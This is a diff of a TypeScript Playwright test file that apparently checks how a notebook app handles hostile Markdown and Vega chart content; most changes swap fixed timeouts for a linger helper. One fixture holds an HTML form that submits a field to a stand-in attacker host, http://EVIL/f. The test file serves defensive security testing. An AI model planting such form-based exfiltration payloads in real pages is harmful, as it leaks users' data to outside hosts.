@@ -14,16 +14,16 @@ const markdown = (name: string, html: string, extra: Partial<HostileCase> = {}):
 });
 const clickIfThere =
   (text: string) =>
-  async ({ page }: CaseContext) => {
+  async ({ page, linger }: CaseContext) => {
     const target = page.locator(".prose", { hasText: text }).getByText(text, { exact: true });
     if ((await target.count()) > 0)
       await target
         .first()
         .click({ timeout: 3_000 })
         .catch(() => undefined);
-    await page.waitForTimeout(1500);
+    await linger(1500);
   };
-const chartTime = async ({ page }: CaseContext) => page.waitForTimeout(1500);
+const chartTime = async ({ linger }: CaseContext) => linger(1500);
 
 /** The Markdown, Vega, link and trust-gate cases. */
 export const pageCases: HostileCase[] = [
@@ -42,9 +42,9 @@ export const pageCases: HostileCase[] = [
     '<form action="http://EVIL/f" method="get"><input name="c" value="x"><button type="submit">Send it</button></form>',
     {
       // The user sends the form (a click on a Markdown cell opens its editor, which takes the form away first).
-      action: async ({ page }) => {
+      action: async ({ page, linger }) => {
         await page.evaluate(() => document.querySelector<HTMLFormElement>(".prose form")?.requestSubmit());
-        await page.waitForTimeout(1500);
+        await linger(1500);
       },
     },
   ),
@@ -77,7 +77,12 @@ export const pageCases: HostileCase[] = [
           '"encoding":{"x":{"field":"id","type":"quantitative"}}}',
       ),
     ]),
-    action: chartTime,
+    // The image mark asks for its picture once drawn, which can be well after its cell is done on a busy machine.
+    action: async (c) => {
+      const drawn = c.page.frameLocator('[data-cell="pic"] iframe[data-role="chart"]').locator("svg").first();
+      await drawn.waitFor({ timeout: 20_000 }).catch(() => undefined);
+      await chartTime(c);
+    },
     weaken: "vega",
   },
   {
